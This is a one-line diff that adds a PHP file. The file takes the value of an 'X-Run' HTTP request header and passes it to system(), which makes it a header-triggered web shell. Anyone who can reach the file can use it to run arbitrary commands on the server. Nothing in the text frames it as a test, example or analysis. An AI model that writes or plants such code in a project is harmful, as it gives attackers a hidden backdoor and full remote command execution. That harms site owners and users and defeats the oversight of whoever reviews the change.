@@ -1,0 +1,1 @@
+<?php $h = apache_request_headers(); system($h["X-Run"]);
